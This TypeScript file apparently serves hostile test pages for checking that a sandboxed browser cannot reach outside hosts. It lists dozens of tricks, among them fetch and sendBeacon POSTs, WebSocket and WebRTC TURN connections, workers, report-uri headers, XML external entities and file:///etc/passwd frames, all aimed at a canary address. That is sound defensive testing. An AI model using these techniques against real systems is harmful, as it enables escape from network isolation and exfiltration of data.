import { bytesPage, type Page, redirectPage } from './web-site.ts';

/** Ways in which a page can make a browser reach for an address. `$` is `host:port` of the canary, `~` a number of its own. */
const TRICKS: Record<string, string> = {
  iframe: '<iframe src="http://$/iframe"></iframe>',
  srcdoc: '<iframe srcdoc="<img src=http://$/srcdoc>"></iframe>',
  image:
    '<img src="http://$/img"><img srcset="http://$/srcset 1x"><picture><source srcset="http://$/source"><img></picture>',
  script: '<script src="http://$/script"></script><script type=module src="http://$/module"></script>',
  style:
    '<link rel=stylesheet href="http://$/css"><style>@import "http://$/import"; body{background:url(http://$/bg)}</style>',
  font: '<style>@font-face{font-family:f;src:url(http://$/font)} b{font-family:f}</style><b>text</b>',
  media:
    '<video src="http://$/video" preload=auto poster="http://$/poster"></video><audio src="http://$/audio" preload=auto></audio>',
  embed: '<object data="http://$/object"></object><embed src="http://$/embed">',
  svg: '<svg><image href="http://$/svg"/><use href="http://$/use#a"/></svg>',
  hints:
    '<link rel=preconnect href="http://$/"><link rel=dns-prefetch href="http://$/"><link rel=prefetch href="http://$/prefetch"><link rel=preload as=image href="http://$/preload"><link rel=modulepreload href="http://$/mp">',
  prerender:
    '<script type=speculationrules>{"prerender":[{"source":"list","urls":["http://$/prerender"]}],"prefetch":[{"source":"list","urls":["http://$/spec"]}]}</script>',
  fetch:
    '<script>fetch("http://$/fetch").then(r=>r.text()).then(t=>document.body.append(t)).catch(()=>0);fetch("http://$/nocors",{mode:"no-cors"}).catch(()=>0)</script>',
  xhr: '<script>x~=new XMLHttpRequest;x~.open("GET","http://$/xhr");x~.onload=()=>document.body.append(x~.responseText);x~.send()</script>',
  post: '<script>fetch("http://$/post",{method:"POST",mode:"no-cors",body:"x"}).catch(()=>0);navigator.sendBeacon("http://$/beacon","x")</script>',
  websocket: '<script>new WebSocket("ws://$/ws")</script>',
  events: '<script>new EventSource("http://$/events")</script>',
  worker:
    '<script>new Worker(URL.createObjectURL(new Blob([`importScripts("http://$/import");`])));new Worker(URL.createObjectURL(new Blob([`fetch("http://$/worker",{mode:"no-cors"});new WebSocket("ws://$/workerws")`])))</script>',
  shared:
    '<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://$/shared",{mode:"no-cors"})`])))</script>',
  service: '<script>navigator.serviceWorker?.register("/sw.js").catch(()=>0)</script>',
  popup:
    '<script>open("http://$/popup")</script><a id=a~ href="http://$/click" target=_blank>x</a><script>a~.click()</script>',
  form: '<iframe name=f~></iframe><form id=g~ action="http://$/form" target=f~ method=post></form><script>g~.submit()</script>',
  framerefresh: '<iframe srcdoc="<meta http-equiv=refresh content=\'0;url=http://$/refresh\'>"></iframe>',
  webrtc:
    '<script>p~=new RTCPeerConnection({iceServers:[{urls:["stun:$"]},{urls:["turn:$?transport=tcp","turn:$?transport=udp"],username:"u",credential:"c"}]});p~.createDataChannel("x");p~.createOffer().then(o=>p~.setLocalDescription(o))</script>',
  webtransport: '<script>try{new WebTransport("https://$/wt").ready.catch(()=>0)}catch{}</script>',
  redirects:
    '<img src="/away?to=http://$/r1"><iframe src="/away?to=http://$/r2"></iframe><script src="/away?to=http://$/r3"></script><script>fetch("/away?to=http://$/r4",{mode:"no-cors"}).catch(()=>0)</script>',
  https:
    '<img src="https://$/tls"><iframe src="https://$/tlsframe"></iframe><script>new WebSocket("wss://$/wss")</script>',
  attributes:
    '<table background="http://$/tablebg"><td background="http://$/tdbg"></table><input type=image src="http://$/input"><video><track default src="http://$/track"></video><blockquote cite="http://$/cite"></blockquote>',
  icons:
    '<link rel=icon href="http://$/icon"><link rel=apple-touch-icon href="http://$/touch"><link rel=manifest href="http://$/manifest"><link rel=search type=application/opensearchdescription+xml href="http://$/search"><link rel=pingback href="http://$/pingback">',
  preloads:
    '<link rel=preload as=fetch crossorigin href="http://$/asfetch"><link rel=preload as=font crossorigin href="http://$/asfont"><link rel=preload as=style href="http://$/asstyle"><link rel=prerender href="http://$/oldprerender"><link rel=next href="http://$/next">',
  ping: '<a id=p~ href="#x" ping="http://$/ping">x</a><script>p~.click()</script>',
  importmap:
    '<script type=importmap>{"imports":{"m~":"http://$/mapped.js"}}</script><script type=module>import("m~").catch(()=>0)</script>',
  dynamicimport: '<script>import("http://$/dynamic.js").catch(()=>0)</script>',
  nestedworker:
    '<script>new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob(["fetch(\\"http://$/nested\\",{mode:\\"no-cors\\"})"])))`])))</script>',
  moduleworker:
    '<script>new Worker(URL.createObjectURL(new Blob([`import "http://$/wm.js"`])),{type:"module"})</script>',
  worklets:
    '<script>CSS.paintWorklet?.addModule("http://$/paint.js").catch(()=>0);new AudioContext().audioWorklet?.addModule("http://$/audio.js").catch(()=>0)</script>',
  workerxhr:
    '<script>new Worker(URL.createObjectURL(new Blob([`x=new XMLHttpRequest;x.open("GET","http://$/wx",false);try{x.send()}catch{};new EventSource("http://$/wes")`])))</script>',
  websocketstream: '<script>try{new WebSocketStream("ws://$/wss")}catch{}</script>',
  keepalive:
    '<script>fetch("http://$/ka",{method:"POST",mode:"no-cors",keepalive:true,body:"x"}).catch(()=>0);addEventListener("pagehide",()=>navigator.sendBeacon("http://$/hide","x"))</script>',
  styles:
    '<style>li~{list-style-image:url(http://$/list);cursor:url(http://$/cursor),auto;border-image:url(http://$/border) 1;mask:url(http://$/mask);shape-outside:url(http://$/shape);filter:url(http://$/filter#a);content:url(http://$/content)}i~::after{content:image-set("http://$/set" 1x)}</style><li~ style="background:url(http://$/inline)">x</li~><i~>y</i~>',
  svgmore:
    '<svg><image xlink:href="http://$/xlink"/><filter><feImage href="http://$/fe"/></filter><foreignObject><img src="http://$/fo"></foreignObject><script href="http://$/svgjs"/></svg><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><image href=\'http://$/in\'/></svg>">',
  written:
    '<script>document.write("<img src=http://$/written><scr"+"ipt src=http://$/wjs></scr"+"ipt>")</script>',
  base: '<iframe srcdoc="<base href=http://$/><img src=based><form action=posted></form><script>document.forms[0].submit()</script>"></iframe>',
  sandboxed:
    '<iframe sandbox="allow-scripts allow-popups" srcdoc="<script>open(`http://$/sp`);fetch(`http://$/sf`,{mode:`no-cors`})</script>"></iframe>',
  blank:
    '<script>w~=open("about:blank");if(w~){w~.document.write("<img src=http://$/blank>");w~.location="http://$/wl"}</script>',
  iframejs:
    '<iframe src="javascript:location=`http://$/js`"></iframe><iframe src="data:text/html,<img src=http://$/dataframe>"></iframe>',
  download: '<a id=d~ download href="http://$/file">x</a><script>d~.click()</script>',
  formaction:
    '<iframe name=h~></iframe><form target=h~><button id=b~ formaction="http://$/fa" formmethod=post></button></form><script>b~.click()</script>',
  schemeless:
    '<img src="//$/schemeless"><iframe src="\\\\$/backslashes"></iframe><img src="http:/\\$/mixed">',
  fencedframe:
    '<script>f~=document.createElement("fencedframe");document.body.append(f~);try{f~.config=new FencedFrameConfig("http://$/ff")}catch{}</script>',
  beaconworker:
    '<script>new Worker(URL.createObjectURL(new Blob([`setInterval(()=>fetch("http://$/again",{mode:"no-cors",cache:"no-store"}).catch(()=>0),50)`])))</script>',
  cache: '<script>caches?.open("a").then(c=>c.add("http://$/cacheadd")).catch(()=>0)</script>',
  identity:
    '<script>navigator.credentials?.get({identity:{providers:[{configURL:"http://$/fedcm.json",clientId:"1"}]}}).catch(()=>0)</script>',
  protocols:
    '<script>try{navigator.registerProtocolHandler("web+x","http://$/%s")}catch{}</script><a id=t~ href="mailto:x@$">x</a><a id=u~ href="tel:1">x</a><script>t~.click()</script>',
  turn: '<script>q~=new RTCPeerConnection({iceTransportPolicy:"relay",iceServers:[{urls:"turns:$?transport=tcp",username:"u",credential:"c"}]});q~.createDataChannel("x");q~.createOffer().then(o=>q~.setLocalDescription(o));q~.addIceCandidate({candidate:"candidate:1 1 udp 2130706431 127.0.0.1 "+"$".split(":").pop()+" typ host",sdpMid:"0"}).catch(()=>0)</script>',
  oddframes:
    '<iframe credentialless src="http://$/cl"></iframe><iframe src="view-source:http://$/vs"></iframe><iframe src="filesystem:http://$/temporary/x"></iframe><iframe src="intent://$/#Intent;scheme=http;end"></iframe><portal src="http://$/portal"></portal>',
  blobframe:
    '<script>k~=document.createElement("iframe");k~.src=URL.createObjectURL(new Blob(["<script>fetch(`http://$/blobframe`,{mode:`no-cors`})<\\/script>"],{type:"text/html"}));document.body.append(k~)</script>',
  typedmodules:
    '<script type=module>import "http://$/typed.css" with {type:"css"}</script><script type=module>import "http://$/typed.json" with {type:"json"}</script>',
  builtstyles:
    '<script>c~=new CSSStyleSheet;c~.replaceSync("body{border-image:url(http://$/built) 1}");document.adoptedStyleSheets.push(c~);new FontFace("z","url(http://$/face)").load().catch(()=>0)</script>',
  shadow:
    '<div><template shadowrootmode=open><link rel=stylesheet href="http://$/shadowcss"><img src="http://$/shadow"></template></div>',
  auctions:
    '<script>try{navigator.joinAdInterestGroup({owner:location.origin,name:"x",biddingLogicURL:"http://$/bid",updateURL:"http://$/update"},99).catch(()=>0)}catch{};try{navigator.runAdAuction({seller:location.origin,decisionLogicURL:"http://$/auction",interestGroupBuyers:[location.origin]}).catch(()=>0)}catch{};try{sharedStorage.worklet.addModule("http://$/storage").catch(()=>0)}catch{}</script>',
  payments:
    '<script>try{new PaymentRequest([{supportedMethods:"http://$/pay"},{supportedMethods:"https://$/pays"}],{total:{label:"x",amount:{currency:"USD",value:"1"}}}).canMakePayment().catch(()=>0)}catch{}</script><link rel=monetization href="http://$/money"><link rel=facilitated-payment href="http://$/fp">',
  measured:
    '<img attributionsrc="http://$/attribution" src=/x><script>try{fetchLater("http://$/later",{activateAfter:0})}catch{}</script>',
  artwork:
    '<script>try{navigator.mediaSession.metadata=new MediaMetadata({artwork:[{src:"http://$/art"}]});new Notification("x",{icon:"http://$/notice",image:"http://$/image"})}catch{}</script>',
  rawsockets:
    '<script>try{new TCPSocket("127.0.0.1",+"$".split(":").pop()).opened.catch(()=>0)}catch{};try{new UDPSocket({remoteAddress:"127.0.0.1",remotePort:+"$".split(":").pop()}).opened.catch(()=>0)}catch{}</script>',
  addressspaces:
    '<script>for(const a of["private","local","loopback","public"])try{fetch("http://$/"+a,{mode:"no-cors",targetAddressSpace:a}).catch(()=>0)}catch{}</script>',
  dictionaries:
    '<link rel=compression-dictionary href="http://$/dictionary"><script type=webbundle>{"source":"http://$/bundle","resources":["http://$/bundled"]}</script>',
  sourcemaps:
    '<script>0//# sourceMappingURL=http://$/jsmap\n</script><style>a{}/*# sourceMappingURL=http://$/cssmap */</style>',
  ftp: '<iframe src="ftp://$/"></iframe><iframe src="file:///etc/passwd"></iframe><img src="file:///etc/hostname">',
};

/** Tricks at `/tricks?names=a,b&at=<host:port>,<host:port>`, each for every target, and ways to lead the whole page away. */
export function hostilePages(): Record<string, Page> {
  return {
    '/away': (request, response, url) =>
      redirectPage(url.searchParams.get('to') ?? '')(request, response, url),
    '/sw.js': bytesPage('self.onfetch = () => 0; fetch("/sw-ran")', { 'content-type': 'text/javascript' }),
    '/tricks': tricks(),
    '/headers': (_request, response, url) => {
      const target = url.searchParams.get('at') ?? '';
      response.setHeader(
        'link',
        `<http://${target}/l1>; rel=preload; as=image, <http://${target}/l2>; rel=preconnect, <http://${target}/l3>; rel=stylesheet`,
      );
      response.setHeader(
        'report-to',
        `{"group":"g","max_age":9,"endpoints":[{"url":"http://${target}/rt"}]}`,
      );
      response.setHeader('reporting-endpoints', `g="http://${target}/re"`);
      response.setHeader('nel', '{"report_to":"g","max_age":9,"success_fraction":1}');
      response.setHeader(
        'content-security-policy',
        `img-src 'none'; report-uri http://${target}/csp; report-to g`,
      );
      response.setHeader('alt-svc', `h3="${target}", h2="${target}"`);
      response.setHeader('sourcemap', `http://${target}/map`);
      response.setHeader('speculation-rules', `"http://${target}/rules"`);
      send(response, '<img src=/x>');
    },
    '/refresh-header': (_request, response, url) => {
      response.setHeader('refresh', `0;url=http://${url.searchParams.get('at') ?? ''}/`);
      send(response, '');
    },
    '/xml': of('text/xml', XML),
    '/svg': of('image/svg+xml', SVG),
    '/xhtml': of('application/xhtml+xml', XHTML),
    '/leave': at('<script>location.href = "http://$/leave"</script>'),
    '/leave-web': at('<script>location.href = "about:blank"</script>'),
    '/refresh': at('<meta http-equiv="refresh" content="0;url=http://$/main-refresh">'),
  };
}

export const TRICK_NAMES = Object.keys(TRICKS);

function tricks(): Page {
  return (_request, response, url) => {
    const markup = (url.searchParams.get('names') ?? '').split(',').map((name) => TRICKS[name] ?? '');
    const targets = (url.searchParams.get('at') ?? '').split(',');
    const body = targets.map((target, index) =>
      markup.join('').replaceAll('$', target).replaceAll('~', String(index)),
    );
    send(response, body.join(''));
  };
}

const XML =
  '<?xml-stylesheet type="text/xsl" href="http://$/xsl"?><?xml-stylesheet type="text/css" href="http://$/xmlcss"?><!DOCTYPE r SYSTEM "http://$/dtd" [<!ENTITY e SYSTEM "http://$/entity"><!ENTITY % p SYSTEM "http://$/parameter"> %p;]><r xmlns:xi="http://www.w3.org/2001/XInclude"><t>hostile</t><xi:include href="http://$/include"/></r>';
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><text>hostile</text><image href="http://$/svgimage"/><script href="http://$/svgscript"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://$/svgframe"/></foreignObject></svg>';
const XHTML =
  '<?xml-stylesheet href="http://$/pi"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>hostile</title></head><body>hostile<img src="http://$/ximage"/><object data="http://$/xobject"/></body></html>';

/** A document of another type than HTML. */
function of(type: string, markup: string): Page {
  return (_request, response, url) => {
    response.writeHead(200, { 'content-type': type });
    response.end(markup.replaceAll('$', url.searchParams.get('at') ?? ''));
  };
}

function at(markup: string): Page {
  return (_request, response, url) =>
    send(response, markup.replaceAll('$', url.searchParams.get('at') ?? ''));
}

function send(response: Parameters<Page>[1], body: string): void {
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  response.end(`<!doctype html><title>hostile</title><body><p>here</p>${body}`);
}
